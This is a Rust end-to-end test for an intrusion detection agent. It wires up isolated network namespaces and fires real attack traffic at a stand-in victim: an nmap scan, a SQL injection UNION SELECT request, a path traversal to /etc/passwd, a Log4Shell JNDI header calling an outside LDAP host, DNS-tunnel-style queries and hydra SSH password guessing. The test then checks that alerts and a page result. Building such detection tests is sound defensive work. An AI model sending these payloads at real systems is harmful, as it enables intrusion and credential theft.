//! Real programs attack over a wire of their own: nmap, curl, dig and hydra in one network
//! namespace, the victim with agent and collector in another; packets to alerts to a page.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use nix::sched::{CloneFlags, unshare};

use crate::sink::Sink;
use crate::system::{Options, System, output};

const VICTIM: &str = "10.77.0.1";

/// A namespace for the attacker, gone when dropped.
struct Attacker(String);

impl Drop for Attacker {
    fn drop(&mut self) {
        let _gone = Command::new("ip").args(["netns", "del", &self.0]).status();
    }
}

impl Attacker {
    /// Puts this thread (and what it starts) into a namespace of its own, joined by a wire to the
    /// attacker's; `None`, said aloud, when that is not allowed or a program is missing.
    fn wire() -> Option<Self> {
        for (program, option) in [("ip", "-V"), ("nmap", "-V"), ("curl", "-V"), ("dig", "-v")] {
            if Command::new(program).arg(option).output().is_err() {
                println!("skipped: {program} is not installed");
                return None;
            }
        }
        let name = format!("pikett-e2e-{}", std::process::id());
        let made = Command::new("ip").args(["netns", "add", &name]).output().unwrap();
        let attacker = Self(name);
        // Entering one also needs a root that is a mount point, which a bare chroot lacks.
        let enter = Command::new("ip").args(["netns", "exec", &attacker.0, "true"]).output();
        let entered = enter.is_ok_and(|output| output.status.success());
        if !made.status.success() || !entered || unshare(CloneFlags::CLONE_NEWNET).is_err() {
            println!("skipped: network namespaces cannot be made and entered here (needs root)");
            return None;
        }
        let near = "link add v0 type veth peer name a0 netns";
        ip(&format!("{near} {}", attacker.0));
        ip("link set lo up");
        ip(&format!("address add {VICTIM}/24 dev v0"));
        ip("link set v0 up");
        let far = format!("-n {}", attacker.0);
        ip(&format!("{far} address add 10.77.0.66/24 dev a0"));
        ip(&format!("{far} link set a0 up"));
        Some(attacker)
    }

    fn run(&self, program: &str, arguments: &[&str]) {
        let mut command = Command::new("ip");
        command.args(["netns", "exec", &self.0, program]).args(arguments);
        let done = command.output().unwrap();
        let words = String::from_utf8_lossy(&done.stderr).into_owned();
        assert!(done.status.code().is_some(), "{program}: {words}");
    }
}

fn ip(words: &str) {
    output(Command::new("ip").args(words.split(' ')));
}

/// A web server that says hello to whatever it is asked.
fn web() {
    let listener = TcpListener::bind((VICTIM, 80)).unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _timeout = stream.set_read_timeout(Some(Duration::from_secs(2)));
            let mut request = [0_u8; 4096];
            let _asked = stream.read(&mut request);
            let body = "<html>hello</html>";
            let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
            let _sent = write!(stream, "{head}Content-Length: {}\r\n\r\n{body}", body.len());
        }
    });
}

/// A name server with one answer for every TXT question.
fn names() {
    let socket = UdpSocket::bind((VICTIM, 53)).unwrap();
    std::thread::spawn(move || {
        let mut question = [0_u8; 1024];
        while let Ok((length, peer)) = socket.recv_from(&mut question) {
            let Some(end) = question[12..length].iter().position(|byte| *byte == 0) else {
                continue;
            };
            let mut answer = question[..2].to_vec();
            answer.extend(b"\x81\x80\0\x01\0\x01\0\0\0\0");
            answer.extend(&question[12..12 + end + 5]);
            answer.extend(b"\xc0\x0c\0\x10\0\x01\0\0\0\x3c\0\x09\x08c2lsZW5j");
            let _sent = socket.send_to(&answer, peer);
        }
    });
}

/// A real sshd whose words become the log the agent follows; `None` when there is none here.
fn ssh(system: &System) -> Option<Child> {
    let key = system.at("hostkey");
    let mut make = Command::new("ssh-keygen");
    make.args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(&key);
    if !make.output().is_ok_and(|done| done.status.success()) {
        return None;
    }
    let _exists = std::fs::create_dir("/run/sshd");
    let mut sshd = Command::new("/usr/sbin/sshd")
        .args(["-D", "-e", "-f", "/dev/null", "-p", "22", "-h"])
        .arg(&key)
        .args(["-o", "UsePAM=no", "-o", "PidFile=none", "-o", "PasswordAuthentication=yes"])
        .args(["-o", "MaxAuthTries=10", "-o", "MaxStartups=100"])
        .stderr(Stdio::piped())
        .spawn()
        .ok()?;
    let words = BufReader::new(sshd.stderr.take()?);
    let log = system.at("logs/auth.log");
    std::thread::spawn(move || {
        let mut log = std::fs::OpenOptions::new().create(true).append(true).open(log).unwrap();
        for line in words.lines().map_while(Result::ok) {
            let _written = writeln!(log, "<86>1 - victim sshd 4711 - - {}", line.trim_end());
        }
    });
    Some(sshd)
}

fn attack(attacker: &Attacker, system: &System) -> Vec<&'static str> {
    attacker.run("nmap", &["-n", "-Pn", "-sS", "--max-retries", "1", "--top-ports", "300", VICTIM]);
    let get = |path: &str, more: &[&str]| {
        let url = format!("http://{VICTIM}{path}");
        let mut arguments = vec!["-s", "--max-time", "5", "--path-as-is"];
        arguments.extend(more);
        arguments.push(&url);
        attacker.run("curl", &arguments);
    };
    get("/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", &[]);
    get("/static/../../../../etc/passwd", &[]);
    get("/", &["-H", "User-Agent: ${jndi:ldap://203.0.113.9:1389/a}"]);
    let server = format!("@{VICTIM}");
    for number in 0_u64..60 {
        // Labels as a tunnel makes them: long, and never the same twice.
        let mixed = number.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5bd1_e995_7b93_1d2f;
        let name = format!("{mixed:016x}{:016x}.t.tunnel.example", mixed.rotate_left(29));
        attacker.run("dig", &["+tries=1", "+time=1", &server, "TXT", &name]);
    }
    let mut expected =
        vec!["Vertical scan", "UNION SELECT", "path traversal", "JNDI", "DNS tunnel"];
    let hydra = Command::new("hydra").arg("-h").output().is_ok();
    match ssh(system).filter(|_| hydra) {
        Some(mut sshd) => {
            let words = system.at("words");
            std::fs::write(&words, "a\nb\nc\nd\ne\nf\ng\nh\ni\nj\nk\nl\n").unwrap();
            let (list, url) = (words.display().to_string(), format!("ssh://{VICTIM}"));
            std::thread::sleep(Duration::from_secs(1));
            attacker.run("hydra", &["-q", "-t", "2", "-l", "nobody2", "-P", &list, &url]);
            sshd.kill().unwrap();
            sshd.wait().unwrap();
            expected.push("SSH");
        }
        None => println!("skipped password guessing: hydra or sshd is not installed"),
    }
    expected
}

fn scene() {
    let Some(attacker) = Attacker::wire() else { return };
    let sink = Sink::start();
    let rules = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let agent = format!(
        "[rules]\nsignatures = [{:?}]\nsigma = [{:?}]\nanomaly = [{:?}]\n\
         [rules.vars]\nHOME_NET = \"[10.77.0.0/24]\"\nEXTERNAL_NET = \"any\"\n\
         [[interfaces]]\ndevice = \"v0\"\nrole = \"ingress\"\nring_megabytes = 16\n",
        rules.join("signatures"),
        rules.join("sigma"),
        rules.join("anomaly"),
    );
    let options = Options { agent, collector: sink.config(), ..Options::default() };
    let Some(system) = System::start(options) else { return };
    web();
    names();
    system.wait("it captures", |system| {
        system.agent()["agent"]["report"]["inputs"].to_string().contains("v0")
    });
    for expected in attack(&attacker, &system) {
        system.wait(expected, |system| {
            let alerts = system.alerts();
            alerts.iter().any(|alert| alert["title"].to_string().contains(expected))
        });
    }
    system.wait("a page went out", |_| !sink.mails().is_empty());
    assert!(sink.mails()[0].contains("10.77.0.66"), "{}", sink.mails()[0]);
    for query in
        ["event_type:http AND http.hostname:10.77.0.1", "event_type:dns", "event_type:flow"]
    {
        system.wait(query, |system| system.total(query) > Some(0));
    }
    system.balance();
    let report = system.agent()["agent"]["report"].clone();
    let capture = &report["ledgers"]["capture"];
    assert!(capture["seen"].as_u64() > Some(600), "{capture}");
    assert_eq!(capture["dropped"], 0, "{capture}");
}

#[test]
fn real_attacks_on_a_real_wire_end_in_a_page() {
    // The namespace belongs to the thread; everything the scene starts is in it.
    std::thread::spawn(scene).join().unwrap();
}
